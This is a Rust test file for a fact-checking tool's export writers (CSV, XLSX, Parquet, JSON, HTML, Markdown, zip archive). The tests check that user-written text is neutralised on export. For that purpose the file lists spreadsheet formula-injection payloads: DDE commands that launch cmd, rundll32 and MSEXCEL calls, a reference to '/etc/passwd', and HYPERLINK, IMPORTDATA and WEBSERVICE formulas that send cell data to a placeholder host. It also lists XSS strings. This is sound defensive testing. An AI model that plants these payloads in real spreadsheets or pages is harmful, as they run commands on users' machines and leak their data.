use actix_web::web::Bytes;
use parquet::file::reader::{FileReader, SerializedFileReader};
use parquet::record::Field;
use serde_json::{Value, json};

use super::Format;
use crate::export::{COLUMNS, Kind};
use crate::release::row;
use crate::snapshot::store::Kept;

/// What spreadsheets have run, or have been made to run, from a cell of a text file.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://e.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://e.example/\",A2),\"//a\")",
    "=IMPORTDATA(\"http://e.example/\"&A1)",
    "=WEBSERVICE(\"http://e.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=\"a\"&\"b\"",
    "='file:///etc/passwd'#$passwd.A1",
    " =1+1",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{200e}=1+1",
    "\u{b}=1+1",
    "\u{c}+1",
    "\u{1f}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    "\u{2212}1+1",
    "|calc",
    "==1+1",
    "-=1",
    "\t",
];

/// Where each column of text that others write comes from.
const WRITTEN: [(&str, &str); 10] = [
    ("claim", "/text"),
    ("article_title", "/article/title"),
    ("article_url", "/article/url"),
    ("article_publisher", "/article/publisher"),
    ("article_published", "/article/published"),
    ("mention", "/mention/exact"),
    ("quote", "/evidence/0/quote/exact"),
    ("source_title", "/evidence/0/source/title"),
    ("source_url", "/evidence/0/source/url"),
    ("interests", "/evidence/0/interests/0/party"),
];

const ID: &str = "01890000-0000-7000-8000-000000000000";

#[test]
fn no_payload_in_any_column_of_text_becomes_a_formula_in_a_csv() {
    for (column, place) in WRITTEN {
        let at = COLUMNS.iter().position(|(name, _)| *name == column).unwrap();
        for payload in PAYLOADS {
            let file = String::from_utf8(written(Format::Csv, &[with(place, payload)])).unwrap();
            let text = file.strip_prefix('\u{feff}').expect("a byte order mark");
            assert!(text.starts_with("\"claim_id\""));
            let mut table = csv::ReaderBuilder::new().from_reader(text.as_bytes());
            let row = table.records().next().unwrap().unwrap();
            assert_eq!((row.len(), &row[at]), (COLUMNS.len(), format!("'{payload}").as_str()), "{column}");
        }
    }
}

#[test]
fn no_payload_in_any_column_of_text_becomes_a_formula_in_a_workbook() {
    for (column, place) in WRITTEN {
        let at = COLUMNS.iter().position(|(name, _)| *name == column).unwrap();
        for payload in PAYLOADS {
            let sheet = part(&written(Format::Xlsx, &[with(place, payload)]), "xl/worksheets/sheet1.xml");
            assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{column}: {sheet}");
            let cells: Vec<&str> = sheet.split("<row r=\"2\">").nth(1).unwrap().split("<c ").skip(1).collect();
            assert!(cells[at].contains("t=\"inlineStr\""), "{column} {payload:?}: {}", cells[at]);
        }
    }
}

#[test]
fn a_workbook_holds_numbers_as_numbers_and_no_character_that_xml_cannot_hold() {
    let sheet = part(&written(Format::Xlsx, &[with("/text", "a\u{7}b & <c> _x0041_")]), "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("a_x0007_b &amp; &lt;c&gt; _x005F_x0041_"), "{sheet}");
    assert_eq!(COLUMNS.iter().filter(|(_, kind)| *kind == Kind::Number).count(), 7);
    assert!(sheet.contains("<c r=\"B2\"><v>1</v></c>"), "{sheet}");
    assert!(sheet.contains("r=\"AC2\""), "the last column");
}

#[test]
fn a_parquet_file_holds_each_column_in_its_own_type_and_null_for_nothing() {
    let file = written(Format::Parquet, &vec![with("/article/url", "=1+1"); 3000]);
    let reader = SerializedFileReader::new(Bytes::from(file)).unwrap();
    assert_eq!(reader.metadata().num_row_groups(), 2);
    let rows: Vec<_> = reader.get_row_iter(None).unwrap().map(Result::unwrap).collect();
    assert_eq!((rows.len(), rows[0].len()), (3000, COLUMNS.len()));
    let held = |column| rows[2999].get_column_iter().find(|(name, _)| *name == column).unwrap().1;
    assert_eq!((held("claim_id"), held("revision")), (&Field::Str(ID.to_owned()), &Field::Long(1)));
    assert_eq!((held("article_url"), held("interested_party")), (&Field::Str("=1+1".to_owned()), &Field::Bool(false)));
    assert_eq!(held("derived_from_article"), &Field::Null);
}

#[test]
fn every_json_format_is_json_for_no_claim_one_and_many() {
    for format in [Format::Json, Format::ClaimReview, Format::Annotations, Format::Provenance, Format::Averitec] {
        for count in 0..3 {
            let file = written(format, &vec![claim(); count]);
            let document: Value = serde_json::from_slice(&file).unwrap_or_else(|error| panic!("{format:?}: {error}"));
            if count > 0 {
                assert!(document.to_string().contains(ID), "{format:?} has other ids");
            }
        }
    }
}

#[test]
fn a_claim_review_rates_what_can_be_rated_and_names_who_claims_it() {
    let review = &json_of(Format::ClaimReview, &claim())["@graph"][0];
    assert_eq!(review["claimReviewed"], "Osterby Mills signed a pact.");
    assert_eq!((&review["reviewRating"]["ratingValue"], &review["reviewRating"]["bestRating"]), (&json!(5), &json!(5)));
    assert_eq!(review["itemReviewed"]["author"]["name"], "Rut Alm");
    assert_eq!(review["itemReviewed"]["appearance"]["headline"], "The pact");
    assert_eq!(review["author"]["name"], "The bench");
    let mut open = claim();
    open["verdict"] = json!("not_enough_evidence");
    let rating = json_of(Format::ClaimReview, &open)["@graph"][0]["reviewRating"].clone();
    assert_eq!(rating, json!({ "@type": "Rating", "alternateName": "Not enough evidence" }));
}

#[test]
fn averitec_knows_four_labels_and_no_claim_that_cannot_be_checked() {
    let of = |verdict: &str| {
        let mut claim = claim();
        claim["verdict"] = json!(verdict);
        json_of(Format::Averitec, &claim)
    };
    assert_eq!(of("conflicting")[0]["label"], "Conflicting Evidence/Cherrypicking");
    assert_eq!(of("not_checkable"), json!([]));
    assert_eq!(of("refuted")[0]["claim_date"], "4-5-2024");
    assert_eq!(of("refuted")[0]["questions"][0]["answers"][0]["answer"], "signed a pact");
}

#[test]
fn an_annotation_points_at_the_words_and_at_the_text_that_they_stand_in() {
    let page = json_of(Format::Annotations, &claim());
    let [of_claim, of_evidence] = [&page["items"][0], &page["items"][1]];
    assert_eq!(of_claim["target"]["selector"][0]["exact"], "Osterby Mills signed a pact");
    assert_eq!(of_claim["target"]["selector"][1], json!({ "type": "TextPositionSelector", "start": 0, "end": 27 }));
    assert_eq!(of_evidence["target"]["source"], "https://register.example/7");
    assert_eq!(of_evidence["body"][1]["value"], "supports");
}

#[test]
fn what_others_wrote_is_text_in_a_report() {
    for words in
        ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</style><b>", "[x](javascript:alert(1))"]
    {
        for (_, place) in WRITTEN {
            let html = String::from_utf8(written(Format::Html, &[with(place, words)])).unwrap();
            assert!(!html.contains("<script") && !html.contains("<img") && !html.contains("<b>"), "{place}: {html}");
            let markdown = String::from_utf8(written(Format::Markdown, &[with(place, words)])).unwrap();
            assert!(!markdown.contains("](") && !markdown.contains("\n<") && !markdown.contains(" <"), "{markdown}");
        }
    }
}

#[test]
fn the_archive_holds_the_release_and_its_texts() {
    let mut writer = Format::Archive.writer();
    let mut file = Vec::new();
    writer.begin(&mut file, &release()).unwrap();
    writer.claim(&mut file, &claim().to_string()).unwrap();
    writer.text(&mut file, ID.parse().unwrap(), &Kept::Text("Osterby Mills signed a pact.".to_owned())).unwrap();
    writer.end(&mut file).unwrap();
    assert_eq!(part(&file, "release.ndjson").lines().count(), 2);
    assert_eq!(part(&file, &format!("texts/{ID}.txt")), "Osterby Mills signed a pact.");
}

fn written(format: Format, claims: &[Value]) -> Vec<u8> {
    let mut writer = format.writer();
    let mut file = Vec::new();
    writer.begin(&mut file, &release()).unwrap();
    for claim in claims {
        writer.claim(&mut file, &claim.to_string()).unwrap();
    }
    writer.end(&mut file).unwrap();
    file
}

fn json_of(format: Format, claim: &Value) -> Value {
    serde_json::from_slice(&written(format, std::slice::from_ref(claim))).unwrap()
}

/// A file of an archive, found by the archive's directory as other programs find it.
fn part(archive: &[u8], name: &str) -> String {
    let number = |at: usize, size: usize| {
        archive[at..at + size].iter().rev().fold(0usize, |number, byte| number * 256 + usize::from(*byte))
    };
    let end = archive.len() - 22;
    assert_eq!(&archive[end..end + 4], b"PK\x05\x06");
    let mut at = number(end + 16, 4);
    for _ in 0..number(end + 10, 2) {
        let length = number(at + 28, 2);
        if &archive[at + 46..at + 46 + length] == name.as_bytes() {
            let (packed, size, offset) = (number(at + 20, 4), number(at + 24, 4), number(at + 42, 4));
            let began = offset + 30 + number(offset + 26, 2) + number(offset + 28, 2);
            let mut text = String::new();
            let mut inflate = flate2::read::DeflateDecoder::new(&archive[began..began + packed]);
            std::io::Read::read_to_string(&mut inflate, &mut text).unwrap();
            assert_eq!(
                (text.len(), number(at + 16, 4)),
                (size, usize::try_from(crc32fast::hash(text.as_bytes())).unwrap())
            );
            return text;
        }
        at += 46 + length;
    }
    panic!("the archive holds no {name}");
}

fn with(place: &str, words: &str) -> Value {
    let mut claim = claim();
    *claim.pointer_mut(place).unwrap() = json!(words);
    claim
}

fn claim() -> Value {
    let snapshot = json!({ "id": ID, "fetched_at": "2024-05-05T06:07:08Z", "extractor": "a reader 1", "raw_sha256": "0", "text_sha256": "0" });
    let mention =
        |exact: &str| json!({ "exact": exact, "prefix": "", "suffix": "", "start": 0, "end": exact.chars().count() });
    let article = json!({ "id": ID, "title": "The pact", "url": "https://paper.example/1", "publisher": "Courier", "byline": null, "language": "en", "published": "2024-05-04" });
    let source = json!({ "id": ID, "title": "Register", "url": "https://register.example/7", "publisher": null, "byline": null, "published": null });
    let evidence = json!({ "id": ID, "stance": "supports", "quote": mention("signed a pact"), "reliability": "B", "credibility": 2,
        "interested_party": false, "interests": [{ "by": "owner", "name": "Norzinc", "party": "Norzinc" }], "derived_from_article": null, "later_than_article": false, "note": "",
        "snapshot": snapshot, "source": source });
    let judgement =
        json!({ "verdict": "supported", "rationale": "It says so.", "assessed_at": "2024-05-06T06:07:08Z" });
    let said = json!({ "speaker": "Rut Alm", "entity": null, "verb": "said", "direct": false, "start": 0, "end": 4 });
    let mut claim = json!({ "id": ID, "revision": 1, "type": "event", "text": "Osterby Mills signed a pact.", "polarity": "affirmed",
        "modality": "asserted", "detail": {}, "verdict": "supported", "corroborated": true, "independent_origins": 1,
        "origins_at_most": 1, "article": article, "snapshot": snapshot, "mention": mention("Osterby Mills signed a pact") });
    for name in ["restatements", "times", "places", "quantities", "edits", "origins"] {
        claim[name] = json!([]);
    }
    claim["rule"] = json!("event");
    (claim["attributions"], claim["assessments"]) = (json!([said]), json!([judgement]));
    claim["evidence"] = json!([evidence]);
    claim
}

fn release() -> row::Model {
    let manifest = json!({
        "format": "claimbench-release", "format_version": 1, "release": ID, "project": ID, "project_name": "The bench",
        "name": "Paper deals", "version": 1, "kind": "first", "created": "2024-05-07T06:07:08Z",
        "policy": { "min_origins": 1, "min_assessments": 1, "blind": false }, "filter": null,
        "counts": { "claims": 1, "evidence": 1, "sources": 1, "verdicts": { "supported": 1, "refuted": 0, "conflicting": 0,
            "not_enough_evidence": 0, "not_checkable": 0 } },
        "extractors": ["a reader 1"], "audit_head": { "sequence": 1, "hash": "0" }, "content_sha256": "0", "previous": null,
        "reason": null, "changes": null, "public_key": null
    });
    row::Model {
        id: ID.parse().unwrap(),
        project_id: ID.parse().unwrap(),
        name: "Paper deals".to_owned(),
        version: 1,
        kind: "first".to_owned(),
        reason: None,
        previous_id: None,
        claims: 1,
        evidence: 1,
        content_sha256: "0".to_owned(),
        manifest: manifest.to_string(),
        manifest_sha256: "0".to_owned(),
        public_key: None,
        signature: None,
        created_by: ID.parse().unwrap(),
        created_at: "2024-05-07T06:07:08Z".parse().unwrap(),
        edition: None,
        edition_sha256: None,
        edition_signature: None,
    }
}
